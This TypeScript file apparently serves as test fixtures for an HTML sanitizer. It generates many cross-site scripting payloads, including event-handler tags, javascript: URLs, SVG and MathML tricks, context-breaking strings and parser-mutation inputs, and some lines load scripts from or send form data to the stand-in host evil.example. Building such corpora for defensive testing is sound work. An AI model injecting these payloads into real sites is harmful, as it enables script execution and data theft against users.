/** The script that a text would run if a browser executed it: it sets an otherwise unused name. */
export const mark = "ran"
export const call = `globalThis.${mark}=1`

const link = `javascript:${call}`
const image = `<img src=x onerror=${call}>`
const script = `<script>${call}</script>`

/** All combinations of the two lists. */
export const cross = <A, B>(
  left: ReadonlyArray<A>,
  right: ReadonlyArray<B>,
  join: (left: A, right: B) => string
): ReadonlyArray<string> => left.flatMap((one) => right.map((other) => join(one, other)))

/** Elements with an event that fires without user action, and the attributes that it requires. */
const lively: ReadonlyArray<readonly [name: string, event: string, rest?: string]> = [
  ["img", "onerror", "src=x"],
  ["image", "onerror", "src=x"],
  ["audio", "onerror", "src=x"],
  ["video", "onerror", "src=x"],
  ["video", "onloadstart", "src=x"],
  ["source", "onerror", "src=x"],
  ["svg", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["frameset", "onload"],
  ["iframe", "onload"],
  ["object", "onerror", "data=x"],
  ["embed", "onload", "src=x"],
  ["link", "onerror", "rel=stylesheet href=x"],
  ["script", "onerror", "src=x"],
  ["style", "onload"],
  ["details", "ontoggle", "open"],
  ["dialog", "onfocus", "open autofocus tabindex=0"],
  ["input", "onfocus", "autofocus"],
  ["input", "onerror", "type=image src=x"],
  ["select", "onfocus", "autofocus"],
  ["textarea", "onfocus", "autofocus"],
  ["button", "onfocus", "autofocus"],
  ["keygen", "onfocus", "autofocus"],
  ["a", "onfocus", "href=# autofocus"],
  ["div", "onfocus", "contenteditable autofocus"],
  ["p", "onanimationstart", "class=spin"],
  ["marquee", "onstart"],
  ["isindex", "onerror", "type=image src=x"],
  ["bgsound", "onpropertychange", "src=x"],
  ["table", "onfocus", "tabindex=0 autofocus background=x"],
  ["math", "onfocus", "tabindex=0 autofocus"],
  ["unknown-element", "onfocus", "tabindex=0 autofocus"]
]

/** Spellings of a tag with an event. */
const spellings: ReadonlyArray<(name: string, event: string, rest: string) => string> = [
  (name, event, rest) => `<${name} ${rest} ${event}=${call}>`,
  (name, event, rest) => `<${name.toUpperCase()}/${rest.replaceAll(" ", "/")}/${event.toUpperCase()}='${call}'`,
  (name, event, rest) => `<${name}\t${rest.replaceAll(" ", "\t")}\t${event}\t=\t"${call}" `
]

const events =
  "abort afterprint auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragstart drop end ended focusin focusout formdata gotpointercapture hashchange input invalid keydown keypress keyup loadeddata loadedmetadata message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup paste pointerdown pointerenter pointerover pointerrawupdate popstate progress readystatechange repeat reset resize scroll scrollend search securitypolicyviolation seeked select selectionchange selectstart submit suspend timeupdate touchstart transitionend unhandledrejection unload volumechange waiting webkitanimationstart wheel".split(
    " "
  )

/** Elements that act through their target or content. */
const leading: ReadonlyArray<string> = [
  script,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script/x>`,
  `<script>${call}//`,
  `<script type=module>${call}</script>`,
  `<script type=importmap>{"imports":{"x":"data:text/javascript,${call}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:text/javascript,${call} /></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=${link}>`,
  `<svg><a xlink:href="${link}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x">`,
  `<svg><image href=x onerror=${call}>`,
  `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
  `<math href="${link}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="${link}">x</maction></math>`,
  `<math><mi xlink:href="${link}">x</mi></math>`,
  `<iframe src="${link}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="data:text/html,${script}"></iframe>`,
  `<fencedframe src="https://evil.example/"></fencedframe>`,
  `<frameset><frame src="${link}"></frameset>`,
  `<object data="${link}"></object>`,
  `<object type=text/html data="data:text/html,${script}"></object>`,
  `<embed src="${link}">`,
  `<applet code=x archive=//evil.example/x.jar></applet>`,
  `<form action="${link}"><button>x</button></form>`,
  `<form action="https://evil.example/"><input name=q><button>x</button></form>`,
  `<form><button formaction="${link}">x</button></form>`,
  `<input type=submit formaction="${link}" value=x>`,
  `<isindex action="${link}" type=submit>`,
  `<a href="${link}">x</a>`,
  `<a href=" &#106;avascript:${call}">x</a>`,
  `<a href="jav&Tab;ascript&colon;${call}">x</a>`,
  `<a href="#" ping="https://evil.example/">x</a>`,
  `<area href="${link}" shape=default>`,
  `<base href="https://evil.example/">`,
  `<base target=_blank>`,
  `<meta http-equiv="refresh" content="0;url=${link}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="Set-Cookie" content="a=b">`,
  `<meta charset=utf-7>+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<meta name=referrer content=unsafe-url>`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<link rel=import href="data:text/html,${script}">`,
  `<link rel=prefetch href="https://evil.example/">`,
  `<link rel=manifest href="https://evil.example/">`,
  `<style>*{display:none}</style>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<template shadowrootmode=open>${script}</template>`,
  `<slot onslotchange=${call}></slot>`,
  `<portal src="${link}"></portal>`,
  `<video poster="${link}"></video>`,
  `<video><track default src=x onload=${call}></video>`,
  `<table background="${link}"><td background="${link}">`,
  `<body background="${link}">`,
  `<blockquote cite="${link}">x</blockquote>`,
  `<input list=x><datalist id=x><option value="${script}">`,
  `<button popovertarget="page:menu" popovertargetaction=show>x</button>`,
  `<button command=show-modal commandfor="page:menu">x</button>`,
  `<div popover id=x onbeforetoggle=${call}>`,
  `<div style="background:url(${link})">x</div>`,
  `<img srcset="https://evil.example/x 1x" src=x>`,
  `<img usemap=#x><map name=x><area href="${link}"></map>`,
  `<img src="https://evil.example/?x`,
  `<textarea name=x>`,
  `<plaintext>`,
  `<listing>${image}</listing>`,
  `<marquee behavior=alternate onbounce=${call}>x</marquee>`,
  `<menuitem icon="${link}">x`,
  `<ruby><rt onmouseover=${call}>x</rt></ruby>`
]

export const elements: ReadonlyArray<string> = [
  ...leading,
  ...cross(lively, spellings, ([name, event, rest = "x"], spell) => spell(name, event, rest)),
  ...events.map((event) => `<b tabindex=0 on${event}=${call}>x</b>`)
]

/** Texts that end the context around an author's words. */
const ends = [
  `">`,
  `'>`,
  "`>",
  "</title>",
  "</style>",
  "</script>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "</svg>",
  "</math>",
  "</annotation>",
  `</annotation><annotation-xml encoding="text/html">`,
  "</semantics></math>",
  "</code></pre>",
  "</a>",
  "</button>",
  "</summary></details>",
  "</figcaption></figure>",
  "</td></tr></table>",
  "</option></select>",
  "</bdi></span>",
  "</li></ul>",
  "</form>",
  "</h1></header>",
  "</main></body></html>",
  "</head><body>",
  "-->",
  "--!>",
  "<!-->",
  "<!--><!--",
  "]]>",
  "<![CDATA[x]]>",
  "?>",
  "%>",
  "</xmp>",
  "</iframe>",
  "</noembed>",
  "</p>"
]

const bodies = [script, image, `<svg/onload=${call}>`, `<a href="${link}">x</a>`]

export const breaks: ReadonlyArray<string> = cross(ends, bodies, (end, body) => `${end}${body}`)

const quotes = [`"`, "'", "`", ""]

/** Attributes that an element would get if its quotes ended. */
const added: ReadonlyArray<(quote: string) => string> = [
  (quote) => `onmouseover=${quote}${call}`,
  (quote) => `autofocus tabindex=0 onfocus=${quote}${call}${quote} x=${quote}`,
  (quote) => `src=x onerror=${quote}${call}`,
  (quote) => `href=${quote}${link}`,
  (quote) => `style=${quote}background:url(${link})`,
  (quote) => `srcdoc=${quote}${script}`,
  (quote) => `formaction=${quote}${link}`,
  (quote) => `http-equiv=${quote}refresh${quote} content=${quote}0;url=${link}`,
  (quote) => `id=${quote}page:content${quote} class=${quote}visually-hidden`,
  (quote) => `is=${quote}x${quote} slot=${quote}x${quote} part=${quote}x`,
  (quote) => `data-words=${quote}{}${quote} data-theme=${quote}x`,
  (quote) => `target=${quote}_top${quote} rel=${quote}opener`,
  (quote) => `/onclick=${quote}${call}${quote}/`
]

export const attributes: ReadonlyArray<string> = cross(quotes, added, (quote, add) => `x${quote} ${add(quote)}`)

/** Elements whose content is parsed by different rules than their context. */
const around = [
  "svg",
  "svg><desc",
  "svg><title",
  "svg><foreignObject",
  "math",
  "math><mtext",
  "math><mi><mglyph",
  `math><annotation-xml encoding="text/html"`,
  "table",
  "table><caption",
  "select",
  "form><math><mtext></form><form"
]

/** Elements whose content is parsed as text in some contexts. */
const raw = ["style", "title", "textarea", "noscript", "xmp", "iframe", "noembed", "script", "template", "!--"]

export const mutations: ReadonlyArray<string> = [
  ...cross(around, raw, (outer, inner) => {
    const end = inner === "!--" ? "--" : `</${inner}`
    return `<${outer}><${inner}><p title="${end}>${image}">`
  }),
  `<math><mtext><table><mglyph><style><!--</style>${image}-->`,
  `<svg></p><style><a title="</style>${image}">`,
  `<form><div></form><form>${image}`,
  `<noscript><p title="</noscript>${image}">`,
  `<a><table><a href="${link}">`,
  `<table><tr><td><svg><desc><td>${image}`,
  `<select><keygen><svg><style>${image}`,
  `<b><i></b><svg/onload=${call}></i>`,
  `<p><svg><p>${image}`,
  `<details><svg><summary>${image}`
]
